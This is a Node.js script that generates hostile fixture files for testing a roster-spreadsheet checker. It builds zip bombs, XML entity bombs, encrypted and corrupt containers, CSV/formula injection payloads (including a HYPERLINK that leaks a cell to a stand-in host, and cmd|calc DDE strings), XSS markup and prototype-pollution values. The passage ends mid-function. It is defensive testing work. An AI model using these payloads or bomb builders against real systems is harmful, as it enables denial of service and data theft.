// Makes the hostile-file corpus under test/fixtures/hostile/: files a clerk (or an attacker) might
// hand the checker that are not rosters at all, are broken, are too big, or are built to hang,
// exhaust memory or confuse the reader. Deterministic (fixed seeds, fixed zip timestamps); the big
// files are kept and reused when present with the right size. Synthetic people only.
// Run: node scripts/make-hostile.mjs            (prints every file, its size and the expectation)
//
// HOSTILE (exported) says what the command line must answer for each file; test/io/hostile.test.ts
// holds the reader to it.
import { existsSync, mkdirSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import zlib from 'node:zlib';
import * as XLSX from 'xlsx';
import { HEADER, encodeGbk, makeRows, rng } from './synth.mjs';
import { CRAFTED, craftedFiles } from './hostile-crafted.mjs';
import { LEGACY, legacyFiles } from './hostile-legacy.mjs';
import { BUDGETS, budgetFiles } from './hostile-budgets.mjs';
import { HYGIENE, hygieneFiles } from './hostile-hygiene.mjs';
import { CELLS, cellsFiles } from './hostile-cells.mjs';
import { SHARED_STRINGS, makeNames, sharedStringsFiles } from './hostile-names.mjs';
import { concat, crc32, enc, unzip, zipFile } from './zip.mjs';

const OUT = fileURLToPath(new URL('../test/fixtures/hostile/', import.meta.url));
const MiB = 1 << 20;

// ---------------------------------------------------------------------------------------------
// What each file must get. code: 2 (refused, one line on stderr) or [0, 1] (read and checked).
// cli: what the command line must answer instead, where it differs from the page (it reads CSV
// files as large as Excel opens). stderr: a pattern the refusal must match. rules: rules that must be reported. More specific
// checks live in the test.
// ---------------------------------------------------------------------------------------------
const REFUSED = 2;
const CHECKED = [0, 1];
export const HOSTILE = [
  { name: 'random-bytes.xlsx', what: '64 KiB of random bytes named .xlsx', code: REFUSED, kind: 'not-spreadsheet', stderr: /不是 Excel 表格/ },
  { name: 'random-text.xlsx', what: '64 KiB of random bytes without NUL named .xlsx (passes for text)', code: REFUSED, kind: 'not-spreadsheet', stderr: /不是 Excel 表格/ },
  { name: 'truncated-half.xlsx', what: 'first half of a real roster .xlsx', code: REFUSED, kind: 'corrupt', stderr: /损坏或不完整/ },
  { name: 'truncated-tail.xlsx', what: 'a real roster .xlsx missing its last 10 bytes (end of the zip directory)', code: REFUSED, kind: 'corrupt', stderr: /损坏或不完整/ },
  { name: 'pdf.xlsx', what: 'a real minimal PDF named .xlsx', code: REFUSED, kind: 'not-spreadsheet', stderr: /PDF/ },
  { name: 'png.xlsx', what: 'a real 1×1 PNG named .xlsx', code: REFUSED, kind: 'not-spreadsheet', stderr: /图片/ },
  { name: 'docx.xlsx', what: 'a real minimal Word .docx (zip, made with SheetJS CFB) named .xlsx', code: REFUSED, kind: 'not-spreadsheet', stderr: /Word/ },
  { name: 'doc.xls', what: 'a Word 97 .doc (OLE container with a WordDocument stream) named .xls', code: REFUSED, kind: 'not-spreadsheet', stderr: /Word/ },
  { name: 'odt.xlsx', what: 'a zip with only a mimetype and a text file (not an Office file)', code: REFUSED, kind: 'not-spreadsheet', stderr: /不是 Excel 表格/ },
  { name: 'empty.xlsx', what: 'an empty file (0 bytes)', code: REFUSED, kind: 'empty', stderr: /空/ },
  { name: 'bom-only.csv', what: 'a file holding only a UTF-8 BOM', code: REFUSED, kind: 'empty', stderr: /空/ },
  { name: 'huge-cell.csv', what: 'a roster whose one cell is 10 MiB long', code: REFUSED, kind: 'too-large', stderr: /32767/ },
  { name: 'wide-100k-columns.csv', what: 'a CSV line of 100,000 columns', code: REFUSED, kind: 'too-large', stderr: /16384 列/ },
  { name: 'rows-200k.csv', what: '200,000 short rows (1.2 MB)', code: REFUSED, kind: 'too-large', stderr: /120000 行/, cli: { code: CHECKED } },
  { name: 'rows-1.1m.csv', what: '1,100,000 one-letter rows (2.2 MB), more than Excel opens', code: REFUSED, kind: 'too-large', stderr: /120000 行/, cli: { code: REFUSED, stderr: /1048576 行/ } },
  { name: 'empty-cells-30mb.csv', what: '30 MiB of empty cells, 16,000 to a row', code: REFUSED, kind: 'too-large', stderr: /单元格过多/ },
  { name: 'encrypted.xlsx', what: 'password-protected workbook: OLE container with EncryptionInfo (agile) and EncryptedPackage', code: REFUSED, kind: 'encrypted', stderr: /密码/ },
  { name: 'encrypted-standard.xlsx', what: 'password-protected workbook, standard (Excel 2007) encryption', code: REFUSED, kind: 'encrypted', stderr: /密码/ },
  { name: 'encrypted.xls', what: 'password-protected .xls: BIFF8 with a FILEPASS record', code: REFUSED, kind: 'encrypted', stderr: /密码/ },
  { name: 'zip-bomb.xlsx', what: 'a 1.1 MiB .xlsx whose sheet inflates to 1.1 GiB (sizes declared honestly)', code: REFUSED, kind: 'too-large', stderr: /解压后过大/ },
  { name: 'zip-bomb-lying.xlsx', what: 'the same bomb with small uncompressed sizes declared (a lie)', code: REFUSED, kind: 'too-large', stderr: /解压后过大/ },
  { name: 'zip-bomb-descriptor.xlsx', what: 'the same bomb with zero sizes in the local headers and a data descriptor', code: REFUSED, kind: 'too-large', stderr: /解压后过大/ },
  { name: 'zip64.xlsx', what: 'a real roster whose zip keeps its sizes in ZIP64 extra fields (0xFFFFFFFF in the headers)', code: CHECKED },
  { name: 'zip-many-entries.xlsx', what: 'a real roster .xlsx plus 30,000 tiny extra zip entries', code: REFUSED, kind: 'too-large', stderr: /部件过多/ },
  { name: 'many-cells.xlsx', what: 'a 40 KB .xlsx of 1.6 million small number cells (26 MB of sheet XML)', code: REFUSED, kind: 'too-large', stderr: /单元格过多/ },
  { name: 'big-roster-50mb.csv', what: 'a 50 MiB CSV roster (about 305,000 attendees)', code: REFUSED, kind: 'too-large', stderr: /文件过大/, cli: { code: CHECKED } },
  { name: 'sheets-200.xlsx', what: 'a workbook of 200 sheets, the roster in sheet 137', code: CHECKED },
  { name: 'deep-xml.xlsx', what: 'a roster sheet whose XML nests 200,000 elements deep', code: CHECKED },
  { name: 'entity-bomb.xlsx', what: 'a roster with a "billion laughs" DTD in its shared strings', code: CHECKED },
  { name: 'xml-entity-bomb.xls', what: 'an Excel 2003 XML workbook with a "billion laughs" DTD, named .xls', code: CHECKED },
  { name: 'cell-ref-overflow.xlsx', what: 'a roster with a cell at row 2^31 - 1, column ZZZZZZZ (no cell address at all: refused by the cell addressing before SheetJS)', code: REFUSED, kind: 'corrupt', stderr: /位置标记不规范/ },
  { name: 'far-cell.xlsx', what: 'a roster with one more cell at XFD1048576 (the last cell Excel has)', code: CHECKED },
  { name: 'proto-names.xlsx', what: 'sheets named __proto__, constructor, prototype; cells and headers with those names', code: CHECKED },
  { name: 'proto-xml.xlsx', what: 'XML attributes, custom properties and defined names called __proto__/constructor', code: CHECKED },
  { name: 'proto.csv', what: 'a CSV roster with __proto__/constructor/prototype headers and cells', code: CHECKED },
  { name: 'regex-stress.xlsx', what: 'a roster whose cells are built to make regular expressions backtrack', code: CHECKED },
  { name: 'formula-cells.xlsx', what: 'text cells =HYPERLINK(…), +cmd|…, @SUM(A1), -2+3+cmd, and a real formula', code: CHECKED, rules: ['cell.formula'] },
  { name: 'formula-cells.csv', what: 'the classic CSV injection payloads in a CSV roster', code: CHECKED, rules: ['cell.formula'] },
  { name: 'markup-cells.xlsx', what: 'cells holding <img src=x onerror=alert(1)>, <script>, &lt;b&gt;', code: CHECKED },
  { name: 'str-entities.xlsx', what: 'the markup roster written with inline t="str" text cells (SheetJS\'s default)', code: CHECKED },
  { name: 'gbk-bom-mixed-open-quote.csv', what: 'GBK with a stray UTF-8 BOM, mixed CRLF/LF/CR line ends and a quote left open', code: REFUSED, kind: 'corrupt', stderr: /第 31 行.*引号/ },
  { name: 'gbk-bom-mixed.csv', what: 'GBK with a stray UTF-8 BOM and mixed CRLF/LF/CR line ends (no open quote)', code: CHECKED },
  { name: 'ole-garbage.xls', what: 'an OLE signature followed by junk (sector chains that loop)', code: REFUSED, kind: 'corrupt', stderr: /损坏或不完整/ },
  { name: 'html-deep.xls', what: 'an HTML "table" with 200,000 nested tags named .xls (2 MB)', code: CHECKED },
  { name: 'html-5mb.xls', what: 'a 5 MiB HTML table named .xls', code: REFUSED, kind: 'too-large', stderr: /网页/ },
  ...CRAFTED,
  ...LEGACY,
  ...BUDGETS,
  ...HYGIENE,
  ...CELLS,
  ...SHARED_STRINGS,
];

// ---------------------------------------------------------------------------------------------
// Small helpers: a deterministic PRNG, CRC-32, and a zip writer that can lie.
// ---------------------------------------------------------------------------------------------
function randomBytes(n, seed, { noNul = false } = {}) {
  const r = rng(seed);
  const out = new Uint8Array(n);
  for (let i = 0; i < n; i++) out[i] = noNul ? 1 + Math.floor(r() * 255) : Math.floor(r() * 256);
  return out;
}

/**
 * A SheetJS workbook as .xlsx bytes, re-zipped with fixed timestamps; `edit` may change entries.
 * Text goes to shared strings, as Excel writes it (SheetJS's default, inline t="str" cells, is
 * read back with entities decoded twice by SheetJS 0.20.3: see str-entities.xlsx).
 */
function xlsx(wb, edit, opts = {}) {
  const entries = unzip(new Uint8Array(XLSX.write(wb, { type: 'buffer', bookType: 'xlsx', bookSST: true, ...opts })));
  return zipFile(edit ? edit(entries) : entries);
}
const text = (entries, name) => new TextDecoder().decode(entries.find((e) => e.name === name).data);
function setText(entries, name, value) {
  const e = entries.find((x) => x.name === name);
  if (e) e.data = enc(value);
  else entries.push({ name, data: enc(value) });
  return entries;
}

function book(sheets) {
  const wb = XLSX.utils.book_new();
  for (const [name, aoa] of sheets) XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(aoa), name);
  return wb;
}

/** A clean roster of n attendees: header + rows. */
const roster = (n = 60, seed = 5) => [HEADER, ...makeRows(n, seed)];
const COL = Object.fromEntries(HEADER.map((h, i) => [h, i]));

// ---------------------------------------------------------------------------------------------
// The files.
// ---------------------------------------------------------------------------------------------

function minimalPdf() {
  const objs = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'];
  let body = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets = [];
  objs.forEach((o, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Uint8Array.from(body, (c) => c.charCodeAt(0));
}

function minimalPng() {
  const chunk = (type, data) => {
    const len = new DataView(new ArrayBuffer(4));
    len.setUint32(0, data.length);
    const td = concat([enc(type), data]);
    const crc = new DataView(new ArrayBuffer(4));
    crc.setUint32(0, crc32(td));
    return concat([new Uint8Array(len.buffer), td, new Uint8Array(crc.buffer)]);
  };
  const ihdr = new DataView(new ArrayBuffer(13));
  ihdr.setUint32(0, 1);
  ihdr.setUint32(4, 1);
  ihdr.setUint8(8, 8); // bit depth
  ihdr.setUint8(9, 2); // RGB
  const idat = zlib.deflateSync(Uint8Array.from([0, 255, 0, 0]));
  return concat([Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', new Uint8Array(ihdr.buffer)), chunk('IDAT', idat), chunk('IEND', new Uint8Array(0))]);
}

/** A minimal Word document, zipped with SheetJS's own CFB/zip writer. */
function minimalDocx() {
  const cfb = XLSX.CFB.utils.cfb_new();
  const add = (p, s) => XLSX.CFB.utils.cfb_add(cfb, p, enc(s));
  add('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>');
  add('_rels/.rels', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>');
  add('word/document.xml', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>学员通讯录：姓名 证件号码 手机号码</w:t></w:r></w:p></w:body></w:document>');
  XLSX.CFB.utils.cfb_del(cfb, '/\u0001Sh33tJ5');
  return new Uint8Array(XLSX.CFB.write(cfb, { fileType: 'zip', type: 'buffer', compression: true }));
}

/** An OLE (CFB) container as Office writes a password-protected .xlsx. */
function encryptedOle(agile) {
  const cfb = XLSX.CFB.utils.cfb_new();
  let info;
  if (agile) {
    const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password"><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/><dataIntegrity encryptedHmacKey="AAAA" encryptedHmacValue="AAAA"/><keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password"><p:encryptedKey spinCount="100000" saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA==" encryptedVerifierHashInput="AAAA" encryptedVerifierHashValue="AAAA" encryptedKeyValue="AAAA"/></keyEncryptor></keyEncryptors></encryption>';
    info = concat([Uint8Array.from([4, 0, 4, 0, 0x40, 0, 0, 0]), enc(xml)]);
  } else {
    // Version 3.2 (Standard), flags fCryptoAPI|fAES, a header naming AES-128 and SHA-1, a verifier.
    const hdr = new DataView(new ArrayBuffer(32));
    hdr.setUint32(0, 0x24, true);
    hdr.setUint32(8, 0x660e, true); // AES-128
    hdr.setUint32(12, 0x8004, true); // SHA-1
    hdr.setUint32(16, 128, true);
    hdr.setUint32(20, 0x18, true);
    const csp = enc('Microsoft Enhanced RSA and AES Cryptographic Provider\0'.replace(/./g, (c) => `${c}\0`));
    const head = new DataView(new ArrayBuffer(12));
    head.setUint16(0, 3, true);
    head.setUint16(2, 2, true);
    head.setUint32(4, 0x24, true);
    head.setUint32(8, 32 + csp.length, true);
    const verifier = concat([Uint8Array.from([16, 0, 0, 0]), randomBytes(32, 7), Uint8Array.from([20, 0, 0, 0]), randomBytes(32, 8)]);
    info = concat([new Uint8Array(head.buffer), new Uint8Array(hdr.buffer), csp, verifier]);
  }
  const size = new DataView(new ArrayBuffer(8));
  size.setUint32(0, 8000, true);
  XLSX.CFB.utils.cfb_add(cfb, '/EncryptionInfo', info);
  XLSX.CFB.utils.cfb_add(cfb, '/EncryptedPackage', concat([new Uint8Array(size.buffer), randomBytes(8192, 9)]));
  XLSX.CFB.utils.cfb_add(cfb, '/\u0006DataSpaces/Version', concat([Uint8Array.from([60, 0, 0, 0]), enc('Microsoft.Container.DataSpaces'.replace(/./g, (c) => `${c}\0`)), Uint8Array.from([1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0])]));
  XLSX.CFB.utils.cfb_del(cfb, '/\u0001Sh33tJ5');
  return new Uint8Array(XLSX.CFB.write(cfb, { type: 'buffer' }));
}

/** A BIFF8 .xls with a FILEPASS record (RC4 CryptoAPI) right after the workbook BOF. */
function encryptedXls() {
  const bytes = new Uint8Array(XLSX.write(book([['学员名单', roster(60, 8)]]), { type: 'buffer', bookType: 'biff8' }));
  const cfb = XLSX.CFB.read(bytes, { type: 'buffer' });
  const wbEntry = XLSX.CFB.find(cfb, 'Workbook');
  const s = new Uint8Array(wbEntry.content);
  const dv = new DataView(s.buffer, s.byteOffset, s.byteLength);
  const bofLen = 4 + dv.getUint16(2, true);
  // FILEPASS: wEncryptionType 1 (RC4), version 2.2 (CryptoAPI), flags, header size, header, verifier.
  const body = concat([Uint8Array.from([1, 0, 2, 0, 2, 0]), randomBytes(48, 10)]);
  const rec = new DataView(new ArrayBuffer(4));
  rec.setUint16(0, 0x002f, true);
  rec.setUint16(2, body.length, true);
  const filepass = concat([new Uint8Array(rec.buffer), body]);
  const out = concat([s.subarray(0, bofLen), filepass, s.subarray(bofLen)]);
  // BoundSheet8 records hold absolute stream positions: shift them past the inserted record.
  const odv = new DataView(out.buffer);
  for (let p = 0; p + 4 <= out.length; ) {
    const type = odv.getUint16(p, true);
    const len = odv.getUint16(p + 2, true);
    if (type === 0x0085) odv.setUint32(p + 4, odv.getUint32(p + 4, true) + filepass.length, true);
    if (type === 0x000a) break; // EOF of the workbook globals
    p += 4 + len;
  }
  wbEntry.content = out;
  wbEntry.size = out.length;
  return new Uint8Array(XLSX.CFB.write(cfb, { type: 'buffer' }));
}

/**
 * A deflate stream of `head` + `repeat` × `unit` + `tail`, built without ever holding the
 * inflated text: each piece is deflated on its own and ended with a sync flush (byte-aligned,
 * not final), so the pieces can be concatenated. Returns the stream, its CRC and size.
 */
function bombStream(head, unit, repeat, tail, withCrc) {
  const sync = { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH };
  const h = zlib.deflateRawSync(head, sync);
  const u = zlib.deflateRawSync(unit, sync);
  const t = zlib.deflateRawSync(tail, { level: 9 });
  const parts = [h];
  for (let i = 0; i < repeat; i++) parts.push(u);
  parts.push(t);
  let crc = 0;
  if (withCrc) {
    // The only slow step (about half a second): the CRC of 1.1 GiB, so files are kept once made.
    crc = crc32(head);
    for (let i = 0; i < repeat; i++) crc = crc32(unit, crc);
    crc = crc32(tail, crc);
  }
  return { deflated: concat(parts), crc, size: head.length + unit.length * repeat + tail.length };
}

const bombCache = new Map();
/**
 * A small roster .xlsx whose first sheet inflates to 1.1 GiB: one cell of 1.1 G letters. The
 * size of the zip does not depend on the CRC, so `withCrc: false` tells the size cheaply.
 */
function zipBomb(lie, withCrc) {
  const base = unzip(new Uint8Array(XLSX.write(book([['学员名单', roster(3)]]), { type: 'buffer', bookType: 'xlsx' })));
  let stream = bombCache.get(withCrc);
  if (!stream) {
    stream = bombStream(
      enc('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'),
      new Uint8Array(MiB).fill(0x41),
      1100,
      enc('</t></is></c></row></sheetData></worksheet>'),
      withCrc,
    );
    bombCache.set(withCrc, stream);
  }
  return zipFile(base.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { name: e.name, ...stream, lie } : e)));
}

/** 50 MiB exactly: attendee rows, then one blank row of spaces to reach the size. */
function bigRoster(target) {
  const head = `${HEADER.join(',')}\r\n`;
  const parts = [head];
  let size = enc(head).length;
  const blank = `${','.repeat(HEADER.length - 1)}\r\n`;
  for (let seed = 100; size < target; seed++) {
    for (const row of makeRows(20000, seed)) {
      const line = `${row.join(',')}\r\n`;
      const n = enc(line).length;
      if (size + n + blank.length > target) break;
      parts.push(line);
      size += n;
    }
    if (size + 300 + blank.length > target) break;
  }
  parts.push(' '.repeat(target - size - blank.length) + blank);
  const bytes = enc(parts.join(''));
  if (bytes.length !== target) throw new Error(`big roster is ${bytes.length} bytes, not ${target}`);
  return bytes;
}

/**
 * A roster whose cells are built to make a naive pattern backtrack. They sit below row 50: the
 * header search (core/locate.ts) looks at the first 50 rows, and its bracket pattern is quadratic
 * in a long run of opening brackets (reported; see test/io/hostile.test.ts), which the reader
 * cannot prevent.
 */
function regexStressRows() {
  const rows = roster(80, 6);
  const evil = [
    ['证件号码', '1'.repeat(5000) + 'x'],
    ['证件号码', `${'1 '.repeat(3000)}!`],
    ['证件号码', '1.'.repeat(3000) + 'E+'],
    ['手机号码', '1'.repeat(20000)],
    ['手机号码', `+86${'-'.repeat(5000)}1`],
    ['手机号码', `0${'1'.repeat(8)}-${'1'.repeat(10000)}`],
    ['电子邮箱', `a@${'a.'.repeat(10000)}a!`],
    ['电子邮箱', `${'a'.repeat(30000)}@`],
    ['电子邮箱', `a@a${'.a'.repeat(120)}!`],
    ['姓名', '('.repeat(30000)],
    ['姓名', `张${' '.repeat(20000)}三`],
    ['姓名', `${'张 '.repeat(10000)}!`],
    ['工作单位', `${'（'.repeat(5000)}${'）'.repeat(5000)}`],
    ['工作单位', `${'\u3000'.repeat(15000)}医院`],
    ['职称', `${'主任'.repeat(10000)}`],
    ['单位所在省份', `${'省'.repeat(30000)}`],
    ['性别', '\u200b'.repeat(30000)],
    ['学历', `${'a'.repeat(25000)}\n${'b'.repeat(5000)}`],
  ];
  evil.forEach(([col, v], i) => {
    rows[55 + i][COL[col]] = v;
  });
  return rows;
}

function formulaRows() {
  const rows = roster(60, 9);
  const payloads = [
    ['姓名', '=HYPERLINK("http://example.invalid/?leak="&E2,"点我")'],
    ['工作单位', "+cmd|' /C calc'!A0"],
    ['电子邮箱', '@SUM(A1)'],
    ['职称', "-2+3+cmd|' /C calc'!A0"],
    ['所在学科', '\t=1+1'],
    ['工作单位', '\r=1+1'],
    ['姓名', "=cmd|' /C notepad'!'A1'"],
    ['手机号码', '=1+1'],
  ];
  payloads.forEach(([col, v], i) => {
    rows[1 + i][COL[col]] = v;
  });
  return rows;
}

const MARKUP = ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '"><svg onload=alert(1)>', '&lt;b&gt;粗体&lt;/b&gt;', "javascript:alert('x')", '{{constructor.constructor("alert(1)")()}}'];

/** Each markup value goes to a column whose rule reports it, so that its value shows in the output. */
function markupRows() {
  const rows = roster(60, 10);
  const cols = ['姓名', '性别', '职称', '所在学科', '电子邮箱', '学历'];
  MARKUP.forEach((v, i) => {
    rows[1 + i][COL[cols[i]]] = v;
  });
  return rows;
}
export const MARKUP_VALUES = MARKUP;

function protoRows() {
  const rows = roster(60, 11).map((r) => [...r, '', '', '']);
  rows[0].splice(HEADER.length, 3, '__proto__', 'constructor', 'prototype');
  rows[1][COL['姓名']] = '__proto__';
  rows[2][COL['工作单位']] = 'constructor';
  rows[3][COL['职称']] = 'prototype';
  rows[4][COL['单位所在省份']] = '__proto__';
  rows[5][COL['所在学科']] = 'hasOwnProperty';
  rows[6][COL['学历']] = 'toString';
  rows[7][COL['性别']] = '__defineGetter__';
  for (let i = 1; i < rows.length; i++) rows[i].splice(HEADER.length, 3, '{"polluted":1}', '__proto__', 'polluted');
  return rows;
}

/** GBK text with a UTF-8 BOM in front (as some tools add), and CRLF, LF and CR line ends mixed. */
function gbkMixed(openQuote) {
  const rows = roster(60, 12);
  if (openQuote) rows[30][COL['工作单位']] = `"${rows[30][COL['工作单位']]}`; // never closed
  const ends = ['\r\n', '\n', '\r'];
  const textOut = rows.map((r, i) => r.join(',') + ends[i % 3]).join('');
  return concat([Uint8Array.from([0xef, 0xbb, 0xbf]), encodeGbk(textOut)]);
}

/** OLE header with a FAT whose chains loop, and directory sectors that point at themselves. */
function oleGarbage() {
  const out = randomBytes(512 * 16, 13);
  out.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  out.fill(0, 8, 24);
  const dv = new DataView(out.buffer);
  dv.setUint16(24, 0x3e, true);
  dv.setUint16(26, 3, true);
  dv.setUint16(28, 0xfffe, true);
  dv.setUint16(30, 9, true);
  dv.setUint16(32, 6, true);
  dv.setUint32(44, 1, true); // one FAT sector
  dv.setUint32(48, 1, true); // directory starts at sector 1
  dv.setUint32(56, 4096, true);
  dv.setUint32(60, 0xfffffffe, true);
  dv.setUint32(68, 0xfffffffe, true);
  dv.setUint32(76, 0, true); // DIFAT[0] = sector 0 holds the FAT
  for (let i = 1; i < 109; i++) dv.setUint32(76 + i * 4, 0xffffffff, true);
  // FAT (sector 0 at offset 512): every sector points to sector 1 (a loop).
  for (let i = 0; i < 128; i++) dv.setUint32(512 + i * 4, 1, true);
  return out;
}

/** A Word 97 document: an OLE container with WordDocument and 1Table streams. */
function wordDoc() {
  const cfb = XLSX.CFB.utils.cfb_new();
  const fib = new Uint8Array(1024);
  fib.set([0xec, 0xa5, 0xc1, 0x00], 0); // wIdent 0xA5EC, nFib 0x00C1
  XLSX.CFB.utils.cfb_add(cfb, '/WordDocument', fib);
  XLSX.CFB.utils.cfb_add(cfb, '/1Table', new Uint8Array(512));
  XLSX.CFB.utils.cfb_del(cfb, '/\u0001Sh33tJ5');
  return new Uint8Array(XLSX.CFB.write(cfb, { type: 'buffer' }));
}

/** 1.6 million small number cells: rows of 100 cells, the deflate stream built by repetition. */
function manyCells() {
  const base = unzip(new Uint8Array(XLSX.write(book([['学员名单', roster(3)]]), { type: 'buffer', bookType: 'xlsx' })));
  const stream = bombStream(
    enc('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'),
    enc(`<row>${'<c><v>1</v></c>'.repeat(100)}</row>`.repeat(100)),
    160,
    enc('</sheetData></worksheet>'),
    true,
  );
  return zipFile(base.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { name: e.name, ...stream } : e)));
}

function manyEntries() {
  const entries = unzip(new Uint8Array(XLSX.write(book([['学员名单', roster(60, 14)]]), { type: 'buffer', bookType: 'xlsx' })));
  for (let i = 0; i < 30000; i++) entries.push({ name: `customXml/item${i}.xml`, data: enc('<a/>') });
  return zipFile(entries);
}

export function makeHostile() {
  mkdirSync(OUT, { recursive: true });
  // The folder is this script's own: files no longer in the corpus go.
  const names = new Set(HOSTILE.map((h) => h.name));
  for (const f of readdirSync(OUT)) if (!names.has(f)) rmSync(OUT + f);
  const files = {};
  const put = (name, bytes) => {
    writeFileSync(OUT + name, bytes);
    files[name] = bytes.length;
  };
  /** Big files: made once, kept while their size is right. */
  const putOnce = (name, size, make) => {
    const p = OUT + name;
    if (existsSync(p) && statSync(p).size === size) files[name] = size;
    else put(name, make());
  };
  const good = xlsx(book([['学员名单', roster(60, 4)]]));

  put('random-bytes.xlsx', randomBytes(64 * 1024, 1));
  put('random-text.xlsx', randomBytes(64 * 1024, 2, { noNul: true }));
  put('truncated-half.xlsx', good.slice(0, Math.floor(good.length / 2)));
  put('truncated-tail.xlsx', good.slice(0, good.length - 10));
  put('pdf.xlsx', minimalPdf());
  put('png.xlsx', minimalPng());
  put('docx.xlsx', minimalDocx());
  put('odt.xlsx', zipFile([{ name: 'mimetype', data: enc('application/vnd.oasis.opendocument.text') }, { name: 'content.txt', data: enc('姓名,证件号码,手机号码') }]));
  put('empty.xlsx', new Uint8Array(0));
  put('bom-only.csv', Uint8Array.from([0xef, 0xbb, 0xbf]));
  {
    const rows = roster(60, 3).map((r) => r.join(','));
    rows[5] = rows[5].replace(/^[^,]*,[^,]*/, (m) => `${m.split(',')[0]},${'张'.repeat(10 * MiB / 3)}`);
    put('huge-cell.csv', enc(rows.join('\r\n')));
  }
  put('wide-100k-columns.csv', enc(`${[...HEADER, ...Array.from({ length: 100000 - HEADER.length }, (_, i) => `列${i}`)].join(',')}\r\n${makeRows(1, 3)[0].join(',')}\r\n`));
  put('rows-200k.csv', enc(`姓名,证件号码,手机号码\n${'a,b,c\n'.repeat(200000)}`));
  put('rows-1.1m.csv', enc(`姓名\n${'a\n'.repeat(1_100_000)}`));
  putOnce('empty-cells-30mb.csv', 30 * MiB, () => {
    const line = `${','.repeat(15999)}\n`;
    const n = Math.floor((30 * MiB) / line.length);
    return enc(line.repeat(n) + ','.repeat(30 * MiB - n * line.length));
  });
  put('encrypted.xlsx', encryptedOle(true));
  put('encrypted-standard.xlsx', encryptedOle(false));
  put('encrypted.xls', encryptedXls());
  for (const [name, lie] of [['zip-bomb.xlsx', undefined], ['zip-bomb-lying.xlsx', { usz: 1000 }], ['zip-bomb-descriptor.xlsx', { usz: 1000, descriptor: true }]]) {
    putOnce(name, zipBomb(lie, false).length, () => zipBomb(lie, true));
  }
  put('zip-many-entries.xlsx', manyEntries());
  put('zip64.xlsx', xlsx(book([['学员名单', roster(60, 22)]]), (entries) => entries.map((e) => ({ ...e, zip64: true }))));
  put('many-cells.xlsx', manyCells());
  put('doc.xls', wordDoc());
  putOnce('big-roster-50mb.csv', 50 * MiB, () => bigRoster(50 * MiB));
  {
    const sheets = [];
    for (let i = 0; i < 200; i++) sheets.push(i === 136 ? ['学员名单', roster(60, 15)] : [`说明${i + 1}`, [['填表说明'], [`第 ${i + 1} 页`]]]);
    put('sheets-200.xlsx', xlsx(book(sheets)));
  }
  put('deep-xml.xlsx', xlsx(book([['学员名单', roster(60, 16)]]), (entries) => {
    const xml = text(entries, 'xl/worksheets/sheet1.xml');
    const depth = 200000;
    return setText(entries, 'xl/worksheets/sheet1.xml', xml.replace('</sheetData>', `</sheetData>${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}`).replace('<sheetData>', `<sheetData>${'<row>'.repeat(1000)}${'</row>'.repeat(1000)}`));
  }));
  put('entity-bomb.xlsx', xlsx(book([['学员名单', roster(60, 17)]]), (entries) => {
    const sst = text(entries, 'xl/sharedStrings.xml');
    let dtd = '<!DOCTYPE sst [<!ENTITY lol "lol">';
    for (let i = 1; i < 10; i++) dtd += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`;
    dtd += ']>';
    return setText(entries, 'xl/sharedStrings.xml', sst.replace(/\?>/, `?>${dtd}`).replace(/<si><t>([^<]*)<\/t><\/si>/, '<si><t>&lol9;</t></si>'));
  }));
  {
    let dtd = '<!DOCTYPE Workbook [<!ENTITY lol "lol">';
